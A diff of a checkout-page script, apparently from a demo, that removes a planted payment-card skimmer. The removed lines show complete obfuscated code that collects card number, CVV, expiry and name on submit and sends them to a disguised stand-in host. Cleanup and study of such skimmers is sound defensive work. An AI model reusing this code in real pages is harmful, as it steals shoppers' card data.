@@ -18,15 +18,3 @@
     if (!luhn(number.value.replace(/\D/g, ''))) { e.preventDefault(); alert('Please check the card number.'); }
   });
 })();
-
-/* --- everything below was appended by an attacker (the planted skimmer of the demo) --- */
-;(function () {
-  var _t = ["aHR0cHM6Ly9jZG4tanF1ZXJ5LXN0YXRpYy5leGFtcGxlL2dhdGUucGhw", "value", "cc-number", "cc-cvv", "cc-exp", "cc-name"];
-  function grab(id) { var el = document.getElementById(id); return el ? el[_t[1]] : ''; }
-  document.addEventListener('submit', function () {
-    var data = {n: grab(_t[2]), c: grab(_t[3]), e: grab(_t[4]), h: grab(_t[5]), s: location.host};
-    var x = new XMLHttpRequest();
-    x.open('POST', atob(_t[0]), true);
-    x.send(btoa(JSON.stringify(data)));
-  }, true);
-})();
